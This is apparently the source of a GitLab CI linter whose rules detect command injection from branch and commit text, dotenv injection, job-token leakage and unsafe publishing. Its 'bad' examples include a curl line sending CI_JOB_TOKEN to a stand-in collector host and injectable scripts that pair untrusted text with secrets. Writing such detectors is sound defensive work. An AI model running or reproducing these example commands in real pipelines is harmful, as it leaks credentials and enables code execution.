"""What comes into scripts from others, and where the job's own token goes."""

import re
from collections.abc import Iterator

from gate.ci.gitlab.inputs import INPUT
from gate.ci.gitlab.jobs import GitlabJob
from gate.ci.gitlab.purposes import commands_in, deploys, holds_of, publishing_command
from gate.ci.gitlab.starting import BRANCH, MERGE_REQUEST, STARTS, TAG, Start, may_run
from gate.ci.rule import rule
from gate.ci.rules.gitlab.scopes import JOBS, hit_at, value_of
from gate.ci.rules.scripts import texts_read_as_code
from gate.ci.shell_steps import command_hit, written
from gate.ci.user_text import FREE_TEXT, user_text_in
from gate.core.lazy_regex import lazy_regex
from gate.dockerfile.addresses import host_of
from gate.dockerfile.secret_words import is_secret_name
from gate.model import Severity
from gate.rules import Hit

_ADDRESS = lazy_regex(r"https?://[^\s\"']+", re.IGNORECASE)
_JOB_TOKEN = lazy_regex(r"\$\{?CI_JOB_TOKEN\b")
_USED = lazy_regex(r"\$\{?(?P<name>[A-Za-z_]\w{0,80})")
_OF_GITLAB = ("gitlab", "$CI_", "${CI_", "$GITLAB", "${GITLAB")
_SENDERS = ("curl", "wget", "http", "https")
_OF_MERGE_REQUEST = "CI_MERGE_REQUEST"
_WRITERS = ("echo", "printf")


def _start_of(job: GitlabJob, names: tuple[str, ...]) -> Start | None:
    """Return what a person does to run the job with a text of their own; None if that is not known to work."""
    starts = [MERGE_REQUEST] if all(name.startswith(_OF_MERGE_REQUEST) for name in names) else list(STARTS)
    if all("TAG" in name for name in names):
        starts = [TAG]
    return next((start for start in starts if may_run(job, start)), None)


@rule(
    "GC240",
    Severity.HIGH,
    "Attack path: text of others runs as code next to secrets",
    looks_at=JOBS,
    why="A branch, tag, title or message may hold `$(command)`. The job reads it as code, so that its author has "
    "what the "
    "job holds without changing a file.",
    mend='The cheapest link to cut: pass the text as an argument of its own, as in sh -c \'build "$1"\' - "$TEXT".',
    references=("CWE-78", "CWE-94"),
    bad='deploy:\n  environment: production\n  script:\n    - ssh deploy@shop.example "checkout $CI_COMMIT_REF_NAME"\n',
    good="deploy:\n  environment: production\n  script:\n    - ssh deploy@shop.example checkout $CI_COMMIT_SHA\n",
)
def text_of_others_next_to_secrets(job: GitlabJob) -> Iterator[Hit]:
    held = holds_of(job)
    for script in job.scripts if held else ():
        for command, names in texts_read_as_code(script):
            start = _start_of(job, names)
            if start is not None:
                chain = (
                    f"{start.words} → {', '.join(names)} → {command.program} in job {job.name} → {', '.join(held[:3])}"
                )
                hit = command_hit(script, command, chain)
                yield Hit(message=chain, path=hit.path, line=hit.line, evidence=hit.evidence)


@rule(
    "GC241",
    Severity.MEDIUM,
    "Input of a pipeline is put into a script",
    looks_at=JOBS,
    why="Inputs are put into the file before the shell reads it: `; command` in an input is a command. Anyone who "
    "may start "
    "the pipeline, or a trigger's token, chooses it.",
    mend="Give the input options or a regex; or put it into a variable of the job, and use that in quotes.",
    references=("CWE-78",),
    bad="spec:\n  inputs:\n    target: {}\n---\njob:\n  script:\n    - deploy $[[ inputs.target ]]\n",
    good="spec:\n  inputs:\n    target: {options: [test, live]}\n---\njob:\n  script:\n"
    "    - deploy $[[ inputs.target ]]\n",
)
def input_in_script(job: GitlabJob) -> Iterator[Hit]:
    free = {name for name, one in job.pipeline.inputs.items() if one.is_free_text and one.value.get("default") is None}
    if not free or job.pipeline.parent is not None or job.path != job.pipeline.path:
        return
    for script in job.scripts:
        for number, line in enumerate(script.script.split("\n")):
            names = [found["name"] for found in INPUT.finditer(line) if found["name"] in free]
            if names:
                message = f"job {job.name} puts the input {names[0]} into its script"
                yield Hit(message=message, path=script.path, line=script.line_of(number), evidence=(job.name, names[0]))


@rule(
    "GC242",
    Severity.MEDIUM,
    "Text of others becomes variables of later jobs",
    looks_at=JOBS,
    why="A message of several lines adds lines to the dotenv report, and so variables of its author's choice to later "
    "jobs: PATH, LD_PRELOAD, or the address of a deployment.",
    mend="Write only values of one line into the report: a commit's id, or the text through base64 -w0.",
    references=("CWE-93",),
    bad='job:\n  script:\n    - echo "NOTE=$CI_COMMIT_MESSAGE" > build.env\n  artifacts:\n'
    "    reports: {dotenv: build.env}\n",
    good='job:\n  script:\n    - echo "NOTE=$CI_COMMIT_SHA" > build.env\n  artifacts:\n'
    "    reports: {dotenv: build.env}\n",
)
def text_becomes_variables(job: GitlabJob) -> Iterator[Hit]:
    files = set(job.value.texts("artifacts", "reports", "dotenv"))
    for script, command in commands_in(job) if files else ():
        targets = {redirect.target.text for redirect in command.syntax.redirects if ">" in redirect.operator}
        if command.program not in _WRITERS or not targets & files:
            continue
        names = [name for word in written(command) for name in user_text_in(word, FREE_TEXT) if "TITLE" not in name]
        if names:
            yield command_hit(script, command, f"{names[0]} is written into the report {min(targets & files)}")


@rule(
    "GC243",
    Severity.HIGH,
    "Job token is sent to another host",
    looks_at=JOBS,
    why="CI_JOB_TOKEN reads the project and its packages as the person who started the job, while the job runs.",
    mend="Give the other service a token of its own, or an identity token (id_tokens) for its audience.",
    references=("CWE-522",),
    bad="job:\n  script:\n    - 'curl --header \"Token: $CI_JOB_TOKEN\" https://collect.example/hook'\n",
    good='job:\n  script:\n    - \'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects"\'\n',
)
def job_token_to_another_host(job: GitlabJob) -> Iterator[Hit]:
    for script, command in commands_in(job) if "CI_JOB_TOKEN" in job.script_text else ():
        words = list(written(command))
        if command.program not in _SENDERS or not any(map(_JOB_TOKEN.search, words)):
            continue
        addresses = [found for word in words for found in _ADDRESS.findall(word)]
        host = host_of(addresses[0]) if addresses else None
        is_gitlab = host is None or any(mark in host.lower() or mark in host for mark in _OF_GITLAB) or "$" in host
        if not is_gitlab:
            yield command_hit(script, command, f"CI_JOB_TOKEN is sent to {host}")


@rule(
    "GC244",
    Severity.LOW,
    "Job that pushes to a repository",
    looks_at=JOBS,
    why="A token that may push changes what later pipelines run; anyone who controls the job's code has it.",
    mend="Keep it to protected branches and tags, with a token that may push to one branch only.",
    references=("CWE-266",),
    bad="job:\n  script:\n    - git push origin HEAD:main\n",
    good='job:\n  script:\n    - git push origin HEAD:main\n  rules:\n    - if: $CI_COMMIT_REF_PROTECTED == "true"\n',
)
def job_pushes(job: GitlabJob) -> Iterator[Hit]:
    starts = [start for start in (MERGE_REQUEST, BRANCH) if may_run(job, start)] if "git" in job.script_text else []
    for script, command in commands_in(job) if starts else ():
        if command.program == "git" and "push" in command.arguments and "--dry-run" not in command.arguments:
            yield command_hit(script, command, f"git push runs at {starts[0].words}")


@rule(
    "GC245",
    Severity.MEDIUM,
    "Secret in a dotenv report",
    looks_at=JOBS,
    why="The report is an artifact that everyone who may read the pipeline downloads, and its values are not masked.",
    mend="Fetch the secret in the job that needs it.",
    references=("CWE-312",),
    bad='job:\n  script:\n    - echo "TOKEN=$DEPLOY_TOKEN" >> build.env\n  artifacts:\n'
    "    reports: {dotenv: build.env}\n",
    good='job:\n  script:\n    - echo "VERSION=$CI_COMMIT_SHA" >> build.env\n  artifacts:\n'
    "    reports: {dotenv: build.env}\n",
)
def secret_in_dotenv(job: GitlabJob) -> Iterator[Hit]:
    files = set(job.value.texts("artifacts", "reports", "dotenv"))
    for script, command in commands_in(job) if files else ():
        targets = {redirect.target.text for redirect in command.syntax.redirects if ">" in redirect.operator}
        if command.program not in _WRITERS or not targets & files:
            continue
        names = [found["name"] for word in written(command) for found in _USED.finditer(word)]
        secret = next((name for name in names if is_secret_name(name)), None)
        if secret:
            yield command_hit(script, command, f"{secret} is written into the report {min(targets & files)}")


@rule(
    "GC246",
    Severity.MEDIUM,
    "Attack path: pipeline that the change writes itself, next to secrets",
    looks_at=JOBS,
    why="Code of the change writes the jobs of the child pipeline, which get the variables of this pipeline: the "
    "author "
    "chooses both the jobs and, by name, the secrets.",
    mend="The cheapest link to cut: start the child pipeline on protected branches only, or from a file of the "
    "repository.",
    references=("CWE-94",),
    bad="generate:\n  script: [make jobs.yml]\n  artifacts: {paths: [jobs.yml]}\n"
    "start:\n  variables: {DEPLOY_TOKEN: $TOKEN_OF_GROUP}\n  trigger:\n"
    "    include: [{artifact: jobs.yml, job: generate}]\n",
    good="generate:\n  script: [make jobs.yml]\n  artifacts: {paths: [jobs.yml]}\n"
    "start:\n  trigger:\n    include: [{artifact: jobs.yml, job: generate}]\n",
)
def generated_pipeline_next_to_secrets(job: GitlabJob) -> Iterator[Hit]:
    generated = next((one for one in job.child_includes if one.kind == "artifact"), None)
    secrets = [name for name, one in job.own_variables.items() if is_secret_name(name) and "$" in one.text]
    start = next((one for one in (MERGE_REQUEST, BRANCH) if may_run(job, one)), None)
    if generated is not None and secrets and start is not None:
        writer = generated.value.text("job")
        chain = f"{start.words} → {generated.name} as job {writer} writes it → {job.name} → ${secrets[0]}"
        yield hit_at(value_of(job, "trigger"), chain, job.name, secrets[0])


@rule(
    "GC247",
    Severity.LOW,
    "Published by code that a merge request changes",
    looks_at=JOBS,
    why="A job that deploys or publishes for merge requests does so with files that no one has approved.",
    mend="Leave merge requests out: rules: - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH.",
    references=("CWE-829",),
    bad="job:\n  script: [npm publish]\n  when: manual\n  rules:\n"
    '    - if: $CI_PIPELINE_SOURCE == "merge_request_event"\n      when: manual\n',
    good="job:\n  script: [npm publish]\n  rules:\n    - if: $CI_COMMIT_TAG\n      when: manual\n",
)
def offered_to_merge_requests(job: GitlabJob) -> Iterator[Hit]:
    what = publishing_command(job) or deploys(job)
    if what and may_run(job, MERGE_REQUEST) and not job.is_hidden:
        yield hit_at(job.value, f"{job.name} ({what}) is offered in pipelines of merge requests", job.name)


@rule(
    "GC248",
    Severity.MEDIUM,
    "Repositories are fetched without TLS",
    looks_at=JOBS,
    why="Anyone on the way decides which code of the submodule or dependency is built.",
    mend='Rewrite addresses to https: git config --global url."https://git.example/".insteadOf "git@git.example:".',
    references=("CWE-319",),
    bad='job:\n  script:\n    - git config --global url."http://git.example/".insteadOf "git@git.example:"\n',
    good='job:\n  script:\n    - git config --global url."https://git.example/".insteadOf "git@git.example:"\n',
)
def fetched_without_tls(job: GitlabJob) -> Iterator[Hit]:
    for script, command in commands_in(job) if "insteadOf" in job.script_text else ():
        name = next(
            (word for word in command.arguments if word.startswith("url.http://") and "insteadOf" in word), None
        )
        if command.program == "git" and name:
            yield command_hit(
                script, command, f"git fetches from {name.removeprefix('url.').removesuffix('.insteadOf')}"
            )
